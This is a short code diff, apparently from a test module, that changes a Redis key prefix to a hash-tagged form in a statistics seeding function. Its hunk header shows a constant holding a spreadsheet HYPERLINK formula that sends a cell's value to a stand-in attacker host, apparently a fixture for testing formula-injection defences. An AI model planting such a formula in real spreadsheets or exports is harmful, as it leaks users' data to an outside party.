@@ -20,7 +20,7 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 def seed(connection: redis.Redis, counters: dict[date, dict[str, int]]) -> None:
     for day, fields in counters.items():
         for field, amount in fields.items():
-            connection.hincrby(f"ps:stats:{day.isoformat()}", field, amount)
+            connection.hincrby(f"{{ps}}:stats:{day.isoformat()}", field, amount)
 
 
 def read(text: str) -> list[list[str]]:
